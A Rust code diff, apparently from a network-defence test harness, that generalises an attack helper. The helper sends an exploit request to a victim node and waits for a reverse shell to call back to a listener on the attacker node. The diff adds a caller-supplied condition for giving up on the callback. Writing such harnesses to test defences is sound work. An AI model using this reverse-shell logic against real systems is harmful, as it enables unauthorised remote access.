@@ -76,6 +76,15 @@ impl Attack {
 
     /// Uses the flaw, and waits for the shell to call back, or for the victim to be cut off first.
     pub fn open(attacker: &Node, victim: &Node) -> Result<Self> {
+        Self::open_unless(attacker, victim, || is_cut_off(victim))
+    }
+
+    /// The same, for a victim that is defended otherwise: `is_over` says when no call is to be expected any more.
+    pub fn open_unless(
+        attacker: &Node,
+        victim: &Node,
+        is_over: impl Fn() -> Result<bool>,
+    ) -> Result<Self> {
         let listening = SocketAddr::new(attacker.address_v4().into(), SHELL_PORT);
         let listener = attacker.within_network(|| Ok(TcpListener::bind(listening)?))?;
         listener.set_nonblocking(true)?;
@@ -84,7 +93,7 @@ impl Attack {
         drop(request(attacker, victim, &encode(&query))?);
         let shell = wait::until("the shell's call", PATIENCE, || match listener.accept() {
             Ok((shell, _)) => Ok(Some(Some(shell))),
-            Err(_) if is_cut_off(victim)? => Ok(Some(None)),
+            Err(_) if is_over()? => Ok(Some(None)),
             Err(error) => Err(error.into()),
         })?;
         if let Some(shell) = &shell {
